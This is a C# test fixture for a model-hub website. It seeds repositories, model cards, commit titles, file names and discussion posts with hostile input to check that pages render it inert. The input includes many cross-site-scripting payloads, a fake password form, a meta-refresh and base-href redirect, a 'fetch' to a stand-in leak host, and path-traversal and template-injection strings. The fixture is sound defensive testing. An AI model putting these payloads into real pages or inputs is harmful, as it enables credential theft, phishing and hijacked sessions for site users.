using System.Net.Http.Json;
using System.Text;
using ModelZoo.Client;
using ModelZoo.Conformance.Harness;
using ModelZoo.Git;

namespace ModelZoo.Conformance.Browser;

/// <summary>What the full hub holds besides the demo zoo: names, cards and histories that are hard on a page.</summary>
public sealed class FullZoo
{
    public const string Hostile = "ada/hostile";
    public const string Secret = "ada/secret";
    public const string Busy = "ada/busy";
    public const string Bare = "ada/bare";
    public const string Rows = "datasets/ada/rows";
    public const string Board = "datasets/ada/board";
    public const string Measured = "ada/measured";

    /// <summary>Legal in a path, and each with a meaning in HTML, in addresses or in a terminal.</summary>
    public static readonly IReadOnlyList<string> HostileNames =
    [
        "<img src=x onerror=alert(1)>.txt", "a\"b'c&d.txt", "with space.txt", "50% off?query#hash.txt", "%2e%2e%2fetc.txt",
        "文件-ünïcödé.txt", "deep/" + string.Join('/', Enumerable.Range(1, 30).Select(i => $"level-{i}")) + "/end.txt",
        new string('w', 180) + ".txt", "{{7*7}}${7*7}.txt", "-rf.txt",
    ];

    public string FirstCommit { get; private init; } = "";
    public string LastCommit { get; private init; } = "";

    public static async Task PushDemoAsync(ZooClient zoo)
    {
        var demo = Path.Combine(Locations.Root, "demo");
        foreach (var (kind, folders) in new[] { (RepoKind.Model, "models"), (RepoKind.Dataset, "datasets") })
            foreach (var folder in Directory.EnumerateDirectories(Path.Combine(demo, folders)).Order(StringComparer.Ordinal))
            {
                var repo = RepoId.Of(kind, BrowserZoo.Administrator, Path.GetFileName(folder));
                await zoo.CreateRepositoryAsync(repo);
                await zoo.UploadFolderAsync(repo, folder, new() { Summary = $"Add {Path.GetFileName(folder)}" });
            }
    }

    public static async Task<FullZoo> PushAsync(ZooClient zoo)
    {
        await CommitAsync(zoo, Hostile, "<script>alert('commit')</script> & a title that is as long as titles may well be when somebody writes a paragraph",
            [("README.md", HostileCard), .. HostileNames.Select(name => (name, "<script>alert('file')</script>\n")),
             ("config.json", """{"model_type": "<b>bold</b>", "architectures": ["\"><script>alert(1)</script>"]}""")]);
        await CommitAsync(zoo, Secret, "Keep this to ourselves", [("README.md", "# Secret\n\nNobody else reads this.\n")], isPrivate: true);
        await CommitAsync(zoo, Rows, "Add rows", [("README.md", "---\nlicense: mit\nlanguage: [en, de]\n---\n# Rows\n\nA few.\n"), ("rows.csv", "a,b\n1,2\n")]);
        await CommitAsync(zoo, Board, "Make it a benchmark", [("eval.yaml", "name: A <b>board</b>\ndescription: Of <script>alert(1)</script> things.\ntasks:\n- {id: task, zoo: {metric: acc, title: \"A task & <i>more</i>\"}}\n- {id: none}\n- {}\nzoo: {suites: [{id: all, tasks: [task, none]}]}\n")]);
        foreach (var (name, value) in new[] { (Measured, "0.91"), ("ada/measured-too", "0.89") })
            await CommitAsync(zoo, name, "State scores", [(".eval_results/a.yaml", $"- dataset: {{id: ada/board, task_id: task}}\n  value: {value}\n  date: \"2026-0{name.Length % 9 + 1}-01\"\n  notes: \"<script>alert('note')</script> {new string('n', 150)}\"\n  source: {{url: \"https://example.org/<x>\", name: \"<b>a</b>\"}}\n  zoo: {{metric: acc, n: 500}}\n- dataset: {{id: ada/board, task_id: task}}\n  value: 91\n- value: 3\n"), ("README.md", "# Measured\n")]);
        await zoo.CreateRepositoryAsync(RepoId.Parse(Bare));

        string first = "", last = "";
        for (var i = 1; i <= 45; i++)
        {
            var lines = string.Concat(Enumerable.Range(1, 200).Select(n => n == i * 4 ? $"line {n}, changed in round {i}\n" : $"line {n}\n"));
            last = await CommitAsync(zoo, Busy, $"Round {i}", [("notes.txt", lines), ($"logs/round-{i:00}.txt", $"round {i}\n")], create: i == 1);
            if (i == 1) first = last;
        }
        await zoo.CreateBranchAsync(RepoId.Parse(Busy), "feature/a slash & more".Replace(" ", "-", StringComparison.Ordinal));
        await zoo.CreateTagAsync(RepoId.Parse(Busy), "v1.0", first, "The first");
        return new() { FirstCommit = first, LastCommit = last };
    }

    /// <summary>A thread with words that are hard on a page, and a pull request.</summary>
    public static async Task DiscussAsync(string url, string token)
    {
        using var http = new HttpClient { BaseAddress = new(url) };
        http.DefaultRequestHeaders.Authorization = new("Bearer", token);
        async Task PostAsync(string tail, object body) => (await http.PostAsJsonAsync($"/api/models/{Busy}/{tail}", body)).EnsureSuccessStatusCode();
        await PostAsync("discussions", new { title = "<script>alert('title')</script> and a word that does not end" + new string('o', 120), description = HostileCard[(HostileCard.IndexOf("# Hostile", StringComparison.Ordinal))..] });
        await PostAsync("discussions/1/comment", new { comment = "# Hostile\n\nThe same heading again, and a [link](#hostile)." });
        await PostAsync("discussions/1/status", new { status = "closed", comment = "Enough." });
        var lines = """
            {"key":"header","value":{"summary":"Say it better","description":"Because."}}
            {"key":"file","value":{"path":"logs/round-01.txt","content":"better\n","encoding":"utf-8"}}
            """;
        (await http.PostAsync($"/api/models/{Busy}/commit/main?create_pr=1", new StringContent(lines))).EnsureSuccessStatusCode();
    }

    static async Task<string> CommitAsync(
        ZooClient zoo, string id, string summary, (string Path, string Text)[] files, bool isPrivate = false, bool create = true)
    {
        var repo = RepoId.Parse(id);
        if (create)
            await zoo.CreateRepositoryAsync(repo, isPrivate);
        var outcome = await zoo.CommitAsync(
            repo, [.. files.Select(file => new AddFile(RepoPath.Parse(file.Path), UploadSource.FromText(file.Text)))], new() { Summary = summary });
        return outcome.CommitId;
    }

    /// <summary>Everything here must come out as words, or not at all.</summary>
    static string HostileCard { get; } = new StringBuilder("""
        ---
        license: other
        license_name: "<script>alert('licence')</script>"
        license_link: "javascript:alert(1)"
        pipeline_tag: "\"><img src=x onerror=alert(1)>"
        library_name: "javascript:alert(1)"
        tags: ["<b>bold</b>", "a\"onmouseover=\"alert(1)", "x"]
        base_model: "../../etc/passwd"
        datasets: ["ada/rows", "javascript:alert(1)"]
        language: [en]
        ---
        # Hostile <script>document.title = "owned"</script>

        <script>window.owned = true; fetch("https://elsewhere.invalid/leak")</script>
        <img src="x" onerror="window.owned = true">
        <img src="https://elsewhere.invalid/pixel.png" alt="a remote image">
        ![another remote image](https://elsewhere.invalid/pixel2.png)
        <svg onload="window.owned = true"><script>window.owned = true</script></svg>
        <iframe src="https://elsewhere.invalid/"></iframe>
        <object data="https://elsewhere.invalid/"></object>
        <style>body { display: none } .top { background: url(https://elsewhere.invalid/css) }</style>
        <link rel="stylesheet" href="https://elsewhere.invalid/css">
        <meta http-equiv="refresh" content="0; url=https://elsewhere.invalid/">
        <base href="https://elsewhere.invalid/">
        <form action="https://elsewhere.invalid/"><input name="password" autofocus onfocus="window.owned = true"><button>Sign in again</button></form>
        <div style="position: fixed; inset: 0; background: red" class="notice danger" id="content">covers the page</div>
        <a href="javascript:window.owned=true">click me</a> [and me](javascript:window.owned=true) <a href="data:text/html,<script>alert(1)</script>">data</a>
        <details ontoggle="window.owned = true" open><summary>open</summary>text</details>
        <math><mtext></table><mglyph><style><img src=x onerror="window.owned = true"></style></mglyph></mtext></math>

        A paragraph that is still there. `<script>` in code stays.

        | a | very | wide | table | that | does | not | fit | on | a | narrow | screen |
        |---|---|---|---|---|---|---|---|---|---|---|---|
        | aaaaaaaaaaaaaaa | bbbbbbbbbbbbbbbbbbb | ccccccccccccccccc | ddddddddddddd | eeeeeeeeeee | f | g | h | i | j | k | l |


        """).Append(new string('x', 300)).Append("\n\n```\n").Append(new string('y', 300)).Append("\n```\n").ToString();
}
